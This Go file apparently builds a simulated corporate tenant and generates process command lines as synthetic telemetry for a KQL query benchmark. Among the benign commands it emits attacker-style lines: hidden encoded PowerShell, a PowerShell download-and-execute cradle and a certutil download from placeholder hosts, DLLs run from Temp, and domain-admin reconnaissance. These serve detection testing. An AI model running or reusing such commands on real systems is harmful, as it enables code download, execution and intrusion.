package kqlbench

import "fmt"

// device, person and program are the tenant's, in the cardinalities of the simulated one.
type device struct{ id, name, os, ip, group string }

type person struct{ name, upn, sid, id, display string }

type program struct{ name, folder, company, sha1, sha256, md5 string }

type tenant struct {
	devices  []device
	people   []person
	programs []program
	hosts    []string // of the network
	peers    []string // their addresses
	senders  []string
}

var systems = []string{"Windows11", "Windows10", "WindowsServer2022", "macOS", "Linux"}

var knownPrograms = []string{
	"svchost.exe", "chrome.exe", "msedge.exe", "conhost.exe", "powershell.exe", "cmd.exe", "RuntimeBroker.exe", "backgroundTaskHost.exe", "taskhostw.exe", "Teams.exe", "OUTLOOK.EXE",
	"dllhost.exe", "SearchProtocolHost.exe", "WmiPrvSE.exe", "explorer.exe", "rundll32.exe", "MsMpEng.exe", "SenseIR.exe", "OneDrive.exe", "EXCEL.EXE", "WINWORD.EXE", "msiexec.exe", "reg.exe",
	"schtasks.exe", "net.exe", "net1.exe", "whoami.exe", "regsvr32.exe", "wscript.exe", "cscript.exe", "mshta.exe", "certutil.exe", "bitsadmin.exe", "pwsh.exe", "python.exe", "node.exe", "git.exe",
	"curl.exe", "wmic.exe", "nltest.exe", "quser.exe", "vssadmin.exe", "ipconfig.exe", "systeminfo.exe", "tasklist.exe", "sc.exe", "ping.exe", "nslookup.exe", "bash", "sh", "sshd", "sudo", "launchd", "mdworker", "psexec.exe",
}

func newTenant() *tenant {
	t := &tenant{}
	d := newDice(1)
	for i := range 500 {
		os := systems[min(d.few(6), 4)]
		kind := "ws"
		if os == "WindowsServer2022" || os == "Linux" {
			kind = "srv"
		}
		t.devices = append(t.devices, device{
			id: hash(20, uint64(i)), name: fmt.Sprintf("%s-%04d.contoso.example", kind, i), os: os,
			ip: fmt.Sprintf("10.%d.%d.%d", i%4, i/4%250, 10+i%200), group: []string{"Workstations", "Servers", "Executives"}[min(d.few(4), 2)],
		})
	}
	for i := range 320 {
		name := fmt.Sprintf("%s.%s", pick(d, []string{"anna", "ben", "carla", "dan", "eva", "finn", "gita", "hugo", "ines", "jon", "kira", "lars"}), fmt.Sprintf("u%03d", i))
		t.people = append(t.people, person{name: name, upn: name + "@contoso.example", sid: sid(i), id: guid(uint64(1000 + i)), display: "Person " + fmt.Sprint(i)})
	}
	for i := range 600 {
		name := fmt.Sprintf("tool-%03d.exe", i)
		if i < len(knownPrograms) {
			name = knownPrograms[i]
		}
		folder := `C:\Program Files\Vendor` + fmt.Sprint(i%40) + `\`
		if i < 60 {
			folder = `C:\Windows\System32\`
		}
		t.programs = append(t.programs, program{name: name, folder: folder, company: []string{"Microsoft Corporation", "Google LLC", "Contoso", ""}[i%4],
			sha1: hash(20, uint64(5000+i)), sha256: hash(32, uint64(5000+i)), md5: hash(16, uint64(5000+i))})
	}
	for i := range 4000 {
		t.hosts = append(t.hosts, fmt.Sprintf("%s%d.%s", pick(d, []string{"www", "cdn", "api", "login", "update", "telemetry", "static"}), i%37, fmt.Sprintf("site%04d.example", i)))
		t.peers = append(t.peers, fmt.Sprintf("%d.%d.%d.%d", 20+i%180, i*7%256, i*31%256, 1+i%254))
	}
	for i := range 3000 {
		t.senders = append(t.senders, fmt.Sprintf("%s%d@partner%03d.example", pick(d, []string{"info", "sales", "noreply", "billing", "news"}), i%50, i%700))
	}
	return t
}

// command is a command line of a program, with arguments that are mostly one of a kind.
func (t *tenant) command(d dice, p program, user string) string {
	path := p.folder + p.name
	switch p.name {
	case "svchost.exe":
		return path + " -k " + pick(d, []string{"netsvcs -p -s Schedule", "LocalService -p -s NlaSvc", "DcomLaunch -p", "NetworkService -p", "wsappx -p -s AppXSvc"})
	case "chrome.exe", "msedge.exe", "Teams.exe":
		return fmt.Sprintf(`"%s" --type=%s --field-trial-handle=%d,%d,i --lang=en-US --mojo-platform-channel-handle=%d /prefetch:%d`, path, pick(d, []string{"renderer", "utility", "gpu-process", "crashpad-handler"}), d.IntN(9000), d.Uint32(), 1000+d.IntN(8000), d.IntN(12))
	case "powershell.exe", "pwsh.exe":
		switch n := d.IntN(1000); {
		case n < 30:
			return "powershell.exe -NoP -W Hidden -EncodedCommand " + d.hex(160)
		case n < 60:
			return fmt.Sprintf(`powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\scripts\job%d.ps1`, d.IntN(60))
		case n < 75:
			return fmt.Sprintf(`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://%s/a%d.ps1')"`, often(d, t.hosts), d.IntN(90))
		default:
			return fmt.Sprintf(`"%s" -NoProfile -Command "& {Invoke-Task -Id %d -Token %s}"`, path, d.IntN(5000), d.hex(12))
		}
	case "cmd.exe":
		return fmt.Sprintf(`C:\Windows\System32\cmd.exe /c "%s %s_%d.bat"`, pick(d, []string{"call", "start /b", "type"}), user, d.IntN(400))
	case "rundll32.exe", "regsvr32.exe":
		return fmt.Sprintf(`%s C:\Users\%s\AppData\Local\Temp\%s.dll,%s`, path, user, d.hex(8), pick(d, []string{"DllMain", "Start", "#1", "Control_RunDLL"}))
	case "net.exe", "net1.exe":
		return p.name + pick(d, []string{" user /domain", ` group "Domain Admins" /domain`, " localgroup administrators", " use \\\\srv-0007\\share", " view"})
	case "certutil.exe":
		return fmt.Sprintf("certutil.exe -urlcache -split -f http://%s/x%d.bin", often(d, t.hosts), d.IntN(1000))
	case "bash", "sh", "sudo":
		return fmt.Sprintf("%s -c '/usr/local/bin/job --run %d --user %s'", p.name, d.IntN(100000), user)
	}
	return fmt.Sprintf(`"%s%s" /run:%d /session %s`, p.folder, p.name, d.IntN(10000), d.hex(16))
}
